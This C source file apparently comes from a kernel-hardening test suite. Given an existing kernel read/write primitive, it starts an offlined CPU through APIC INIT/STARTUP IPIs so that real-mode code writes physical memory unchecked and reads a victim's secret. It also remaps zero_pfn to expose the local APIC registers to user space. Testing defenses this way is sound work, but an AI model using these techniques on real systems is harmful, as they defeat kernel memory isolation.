// SPDX-License-Identifier: GPL-2.0-only
/*
 * The registers of the local APIC are mapped where any store of the kernel
 * reaches them. Two stores start another CPU at a page below 1 MiB, without page
 * tables, and so without keys: what it writes is all of memory. Here that CPU is
 * off; one that runs is taken in the same way, and all that ran there is gone.
 */
#include <stddef.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define START		0x8000		/* memory that nobody has */
#define APIC_ID		1UL
#define VERSION		0x30
#define ICR		0x300
#define ICR_TARGET	0x310
#define INIT		0x4500
#define STARTUP		0x4600
#define PATIENCE	200		/* times 10 ms */

#define STRING(x)	#x
#define VALUE(x)	STRING(x)

extern const char start_code[], start_args[], start_code_end[];

asm(".pushsection .rodata\n"
    ".globl start_code, start_args, start_code_end\n"
    ".code16\n"
    "start_code:\n"
    "	cli\n"
    "	movw	%cs, %ax\n"
    "	movw	%ax, %ds\n"
    "	lgdtl	1f - start_code\n"
    "	movl	%cr0, %eax\n"
    "	orb	$1, %al\n"
    "	movl	%eax, %cr0\n"
    "	ljmpl	$8, $" VALUE(START) " + 2f - start_code\n"
    ".code32\n"
    "2:	movw	$16, %ax\n"
    "	movw	%ax, %ds\n"
    "	movl	$" VALUE(START) " + start_args - start_code, %ebx\n"
    "	movl	(%ebx), %edi\n"
    "	movl	4(%ebx), %eax\n"
    "	movl	8(%ebx), %edx\n"
    "	movl	%edx, 4(%edi)\n"
    "	movl	%eax, (%edi)\n"
    "	movl	$0, (%ebx)\n"
    "3:	hlt\n"
    "	jmp	3b\n"
    "	.balign	8\n"
    "4:	.quad	0, 0x00cf9b000000ffff, 0x00cf93000000ffff\n"
    "1:	.word	23\n"
    "	.long	" VALUE(START) " + 4b - start_code\n"
    "	.balign	8\n"
    "start_args:\n"
    "	.skip	16\n"
    "start_code_end:\n"
    ".code64\n"
    ".popsection\n");

static void send_ipi(uint32_t what)
{
	uint64_t apic = kread64(ksymbol("apic_mmio_base"));
	uint32_t target = APIC_ID << 24;

	kwrite(apic + ICR_TARGET, &target, sizeof(target));
	kwrite(apic + ICR, &what, sizeof(what));
}

/* By the other CPU, in physical memory. */
static int store_by_cpu(const void *how, uint64_t slot, uint64_t value)
{
	uint64_t base = direct_map_base(), page = base + START, at = page + (start_args - start_code);
	uint32_t args[3] = { slot - base, value, value >> 32 };
	int i;

	(void)how;
	if (kwrite(page, start_code, start_code_end - start_code) ||
	    kwrite(at, args, sizeof(args)))
		return -1;
	send_ipi(INIT);
	usleep(10000);
	send_ipi(STARTUP | START >> 12);
	for (i = 0; i < PATIENCE; i++, usleep(10000))
		if (!(uint32_t)kread64(at))
			return 0;
	return -1;
}

static enum outcome take_secret_by_cpu(void)
{
	char text[SECRET_SIZE];
	struct window window;
	int err;

	if (!window_open(&window, LEVEL_PTE))
		return broken("no empty page-table entry to forge");
	err = window_map(&window, store_by_cpu, NULL, victim_phys());
	snprintf(text, sizeof(text), "%s", window.page);
	store_by_cpu(NULL, window.slot, 0);
	return judge_secret(text, err);
}

enum outcome startup_ipi(void)
{
	enum outcome outcome;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!kread64(ksymbol("apic_mmio_base")))
		return skipped("the registers of this APIC are not in memory");
	hotplug_cpu(false);
	outcome = take_secret_by_cpu();
	hotplug_cpu(true);
	return outcome;
}
/* What is no memory is ordinary to the table of frames: anybody may map it. */
enum outcome apic_page(void)
{
	uint64_t number = ksymbol("zero_pfn"), apic = kread64(ksymbol("apic_mmio_base")), old;
	volatile uint32_t *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
				       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	uint64_t vma = find_vma(page);
	struct slot slot;
	uint32_t version;

	if (!apic || !number || !vma || kwalk(apic, LEAF, 0, &slot))
		return skipped("the registers of this APIC are not in memory");
	old = kread64(number);
	kwrite64(vma + VMA_PROT, writable_protection());
	kwrite64(number, slot.phys / PAGE_SIZE);
	version = page[VERSION / sizeof(*page)];
	madvise((void *)page, PAGE_SIZE, MADV_DONTNEED);
	kwrite64(number, old);
	munmap((void *)page, PAGE_SIZE);
	if (!version)
		return lost("there is no register");
	return won("user space has the local APIC's registers: version %#x", version);
}
#else
enum outcome startup_ipi(void)
{
	return skipped("x86-64 only");
}

enum outcome apic_page(void)
{
	return skipped("x86-64 only");
}
#endif
